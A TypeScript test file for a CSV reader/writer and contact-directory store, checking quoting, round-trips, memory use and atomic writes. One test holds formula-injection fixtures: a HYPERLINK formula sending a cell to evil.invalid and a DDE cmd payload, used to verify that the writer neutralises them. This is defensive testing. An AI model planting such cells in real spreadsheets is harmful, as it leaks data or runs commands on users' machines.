import { readFile, writeFile, mkdir } from "node:fs/promises";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { setFlagsFromString } from "node:v8";
import { runInNewContext } from "node:vm";
import { describe, expect, it } from "vitest";
import { writeFileAtomic } from "../../src/core/atomic-write.fs.js";
import { isOutreachError } from "../../src/core/errors.js";
import { DIRECTORY_COLUMNS, type Contact } from "../../src/contacts/contact-schema.js";
import { forEachCsvRecord } from "../../src/core/csv-read.js";
import { formatCsvRow, formatCsvRows, neutraliseCsvCell } from "../../src/core/csv-write.js";
import { contactToRow, sortContacts } from "../../src/contacts/directory-rows.js";
import { parseDirectoryText, readDirectory, writeDirectory } from "../../src/contacts/directory-store.fs.js";
import { importDirectoryFile } from "../../src/directory/import-directory.fs.js";
import { makeTempDir } from "../helpers/cli.js";

function contact(fields: Partial<Contact> & Pick<Contact, "id" | "country">): Contact {
  const empty = Object.fromEntries(DIRECTORY_COLUMNS.map((c) => [c, ""])) as Record<string, string>;
  return { ...empty, status: "active", ...fields } as Contact;
}

/**
 * What the writer must produce, in csv-stringify's terms: formula-like cells get a leading `'` and are
 * quoted (the OWASP advice), edge spaces are quoted, the rest quoted only where CSV needs it.
 */
const NEUTRALISED = /^'[ ']*[=+\-@\t\r]/;
function reference(rows: readonly (readonly string[])[]): string {
  return stringify(
    rows.map((r) => r.map(neutraliseCsvCell)),
    { quoted_match: [/^\s|\s$/, NEUTRALISED] },
  );
}

const TRICKY = [
  "plain",
  "with, comma",
  'with "quotes"',
  "line\nbreak",
  "crlf\r\nbreak",
  " edge space ",
  "",
  "ünïcödé 王示例",
  "semi;colon",
];

describe("CSV reader and writer", () => {
  it("write the same bytes as csv-stringify", () => {
    const rows = [TRICKY, [...TRICKY].reverse()];
    expect(formatCsvRows(rows)).toBe(reference(rows));
  });

  it("quote exactly what csv-stringify quotes, row by row (the one-regex fast path and its fallback)", () => {
    const cells = [
      ...TRICKY,
      "a ,b",
      "a, b",
      "x,",
      ",x",
      "\tx",
      "x\u00a0",
      "\u3000x",
      "tail ",
      "",
      "=1+2",
      "+41 22",
      "-",
      "@x",
      "'=x",
      "'x",
      " =x",
      "a=b",
    ];
    for (const a of cells) {
      for (const b of cells) {
        const row = ["id", a, "mid", b];
        expect(formatCsvRow(row) + "\n").toBe(reference([row]));
      }
    }
  });

  it("read what csv-parse reads, with the line each record starts on", () => {
    const text = formatCsvRows([TRICKY, ["a", "b"], TRICKY]);
    const records: { fields: string[]; line: number }[] = [];
    forEachCsvRecord(text, ",", (r) => records.push(r));
    expect(records.map((r) => r.fields)).toEqual(parse(text, { relax_column_count: true }));
    expect(records.map((r) => r.line)).toEqual([1, 4, 5]);
  });

  it("flags text after a closing quote as malformed and throws on an unclosed quote", () => {
    const records: { malformed?: string }[] = [];
    forEachCsvRecord('a,"b"c,d\n', ",", (r) => records.push(r));
    expect(records[0]?.malformed).toBeTruthy();
    expect(() => forEachCsvRecord('a,"b\nc,d\n', ",", () => undefined)).toThrow(/never closed/);
  });
});

describe("directory store", () => {
  it("contactToRow lists every column in DIRECTORY_COLUMNS order", () => {
    const c = Object.fromEntries(DIRECTORY_COLUMNS.map((col) => [col, `v-${col}`])) as unknown as Contact;
    expect(contactToRow(c)).toEqual(DIRECTORY_COLUMNS.map((col) => `v-${col}`));
  });

  it("reads back every column where it was written, whatever the column order of the file", () => {
    const full = Object.fromEntries(DIRECTORY_COLUMNS.map((col) => [col, `v-${col}`])) as Record<
      string,
      string
    >;
    Object.assign(full, { country: "AR", language: "es", status: "bounced" });
    const reversed = [...DIRECTORY_COLUMNS].reverse();
    const text = formatCsvRows([reversed, reversed.map((col) => full[col] ?? "")]);
    expect(parseDirectoryText(text, "d.csv")).toEqual({ contacts: [full], problems: [], lines: [2] });
  });

  it("writes and reads back a large directory with long, quoted and non-Latin fields, byte-identical to csv-stringify", async () => {
    const dir = await makeTempDir();
    const path = join(dir, "contacts", "directory.csv");
    const long = 'línea "uno", 王示例 '.repeat(400).trim(); // ~8,000 characters: chunks too big for the buffer
    const contacts = Array.from({ length: 1000 }, (_, i) =>
      contact({
        id: `ar-${String(i).padStart(4, "0")}`,
        country: "AR",
        organisation: i % 3 ? "Ministerio" : "Ente",
        name: `Persona ${i}`,
        notes: i % 2 ? "" : long,
        address: i % 2 ? "Calle 1, Piso 2" : " edge ",
      }),
    );
    await writeDirectory(path, contacts);
    const text = await readFile(path, "utf8");
    const rows = [[...DIRECTORY_COLUMNS], ...sortContacts(contacts).map(contactToRow)];
    expect(text).toBe(reference(rows));
    const back = await readDirectory(path);
    expect(back.problems).toEqual([]);
    expect(back.contacts).toEqual(sortContacts(contacts));
  });

  it("neutralises formula-like cells in directory.csv (a spreadsheet shows them as text) and reads them back exactly", async () => {
    const dir = await makeTempDir();
    const path = join(dir, "contacts", "directory.csv");
    const hostile = contact({
      id: "ch-1",
      country: "CH",
      organisation: '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
      name: "@SUM(1+1)*cmd|' /C calc'!A0",
      phone: "+41 22 555 01 01",
      fax: "-",
      address: "\t=1+2",
      notes: "'=already quoted by hand",
    });
    await writeDirectory(path, [hostile]);
    const text = await readFile(path, "utf8");
    const cells = parse(text, { relax_column_count: true });
    // What a spreadsheet sees: no cell starts with a formula character.
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[ ]*[=+\-@\t\r]/);
    expect(text).toContain(`"'+41 22 555 01 01"`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.invalid/?""&A1,""click"")"`);
    expect(text).toContain(`"''=already quoted by hand"`);
    const back = await readDirectory(path);
    expect(back.problems).toEqual([]);
    expect(back.contacts).toEqual([hostile]);
  });

  it("keeps no cell as a view into the file's text, so the text can be freed once read", () => {
    // A collection on demand, for this measurement only (the tool itself never forces one).
    setFlagsFromString("--expose-gc");
    const gc = runInNewContext("gc") as () => void;
    const rows = Array.from({ length: 20_000 }, (_, i) =>
      // Kept: a unique 16-character id, name and e-mail each; the long organisation repeats (one copy).
      [
        `gb-${String(i).padStart(13, "0")}`,
        "GB",
        `Ministry of Digital Affairs (example) ${"and Telecommunications ".repeat(40)}`,
        `Person ${String(i).padStart(9, "0")}`,
        `p${String(i).padStart(9, "0")}@x.example`,
      ].join(","),
    );
    let text: string | undefined = `id,country,organisation,name,email\n${rows.join("\n")}\n`;
    const textBytes = text.length;
    gc();
    const withText = process.memoryUsage().heapUsed;
    const read = parseDirectoryText(text, "directory.csv");
    text = undefined;
    gc();
    const withContacts = process.memoryUsage().heapUsed;
    expect(read.contacts).toHaveLength(20_000);
    expect(read.contacts[7]?.name).toBe("Person 000000007");
    // The text is about 20 MB and the contacts about 5 MB: once the text is dropped the heap holds less
    // than it did with the text alone. Cells kept as slices would keep all 20 MB on top of the contacts.
    expect(textBytes).toBeGreaterThan(19_000_000);
    expect(withText - withContacts).toBeGreaterThan(textBytes / 2);
  });

  it("a missing file is an empty directory", async () => {
    const dir = await makeTempDir();
    expect(await readDirectory(join(dir, "nope.csv"))).toEqual({ contacts: [], problems: [], lines: [] });
  });

  it("round-trips contacts, sorted by country, organisation, name, id, in the stable column order", async () => {
    const dir = await makeTempDir();
    const path = join(dir, "contacts", "directory.csv");
    const contacts = [
      contact({
        id: "th-2",
        country: "TH",
        organisation: "b",
        name: "สมใจ ตัวอย่าง",
        notes: 'says "hi",\nbye',
      }),
      contact({ id: "ar-2", country: "AR", organisation: "Ministerio", name: "Pablo" }),
      contact({
        id: "ar-1",
        country: "AR",
        organisation: "ministerio",
        name: "ana",
        status: "bounced",
        language: "es",
      }),
      contact({ id: "ar-0", country: "AR", organisation: "Ente", name: "Zoe" }),
    ];
    await writeDirectory(path, contacts);
    const text = await readFile(path, "utf8");
    expect(text.split("\n")[0]).toBe(DIRECTORY_COLUMNS.join(","));
    const read = await readDirectory(path);
    expect(read.problems).toEqual([]);
    expect(read.contacts.map((c) => c.id)).toEqual(["ar-0", "ar-2", "ar-1", "th-2"]);
    expect(read.contacts.find((c) => c.id === "th-2")).toEqual(contacts[0]);
    expect(read.lines).toEqual([2, 3, 4, 5]);
  });

  it("reports invalid rows, unknown columns and duplicate ids with file:line field", () => {
    const header = DIRECTORY_COLUMNS.join(",");
    const row = (id: string, country: string, status = "active") =>
      DIRECTORY_COLUMNS.map((c) =>
        c === "id" ? id : c === "country" ? country : c === "status" ? status : "",
      ).join(",");
    const bad = parseDirectoryText(
      [header, row("a", "AR"), row("b", "Argentina"), row("c", "AR", "gone"), row("a", "BR")].join("\n"),
      "d.csv",
    );
    expect(bad.contacts.map((c) => c.id)).toEqual(["a", "a"]);
    expect(bad.problems.map((p) => [p.line, p.field])).toEqual([
      [3, "country"],
      [4, "status"],
      [5, "id"],
    ]);
    const unknown = parseDirectoryText("id,country,favourite_colour\nx,AR,blue\n", "d.csv");
    expect(unknown.problems.map((p) => p.field)).toEqual(["favourite_colour"]);
    expect(unknown.contacts).toEqual([]);
  });

  it("a write that fails half-way leaves the previous directory.csv intact", async () => {
    const dir = await makeTempDir();
    const path = join(dir, "contacts", "directory.csv");
    await writeDirectory(path, [contact({ id: "ar-1", country: "AR", name: "Ana" })]);
    const before = await readFile(path, "utf8");
    const many = Array.from({ length: 5000 }, (_, i) =>
      contact({ id: `br-${i}`, country: "BR", name: `P${i}` }),
    );
    // The real atomic writer, fed a stream that breaks after its first chunk: a disk-full or crash stand-in.
    const failing = (p: string, data: string | AsyncIterable<string | Uint8Array>) =>
      writeFileAtomic(
        p,
        (async function* () {
          if (typeof data === "string") throw new Error("simulated failure");
          for await (const chunk of data) {
            yield chunk;
            throw new Error("simulated failure");
          }
        })(),
      );
    await expect(writeDirectory(path, many, failing)).rejects.toThrow("simulated failure");
    expect(await readFile(path, "utf8")).toBe(before);
  });

  it("an import whose directory write fails reports E_DIRECTORY_WRITE and leaves directory.csv intact", async () => {
    const ws = await makeTempDir();
    await mkdir(join(ws, "contacts"), { recursive: true });
    const path = join(ws, "contacts", "directory.csv");
    await writeDirectory(path, [
      contact({ id: "ar-1", country: "AR", name: "Ana", email: "ana@mincom.ar.example" }),
    ]);
    const before = await readFile(path, "utf8");
    await writeFile(join(ws, "in.csv"), "country,email\nBR,joao@mcom.br.example\n");
    const error = await importDirectoryFile({
      workspace: ws,
      file: join(ws, "in.csv"),
      now: new Date("2026-11-29T09:00:00Z"),
      writer: () => Promise.reject(new Error("disk full (simulated)")),
    }).catch((e: unknown) => e);
    expect(isOutreachError(error) && error.code).toBe("E_DIRECTORY_WRITE");
    expect(await readFile(path, "utf8")).toBe(before);
  });

  it("an import refuses to rewrite a directory that has invalid rows (they would be lost)", async () => {
    const ws = await makeTempDir();
    await mkdir(join(ws, "contacts"), { recursive: true });
    const path = join(ws, "contacts", "directory.csv");
    const broken = `${DIRECTORY_COLUMNS.join(",")}\nar-1,Argentina${",".repeat(DIRECTORY_COLUMNS.length - 2)}\n`;
    await writeFile(path, broken);
    await writeFile(join(ws, "in.csv"), "country,email\nBR,joao@mcom.br.example\n");
    const error = await importDirectoryFile({
      workspace: ws,
      file: join(ws, "in.csv"),
      now: new Date(),
    }).catch((e: unknown) => e);
    expect(isOutreachError(error) && error.code).toBe("E_DIRECTORY_INVALID");
    expect(await readFile(path, "utf8")).toBe(broken);
  });
});
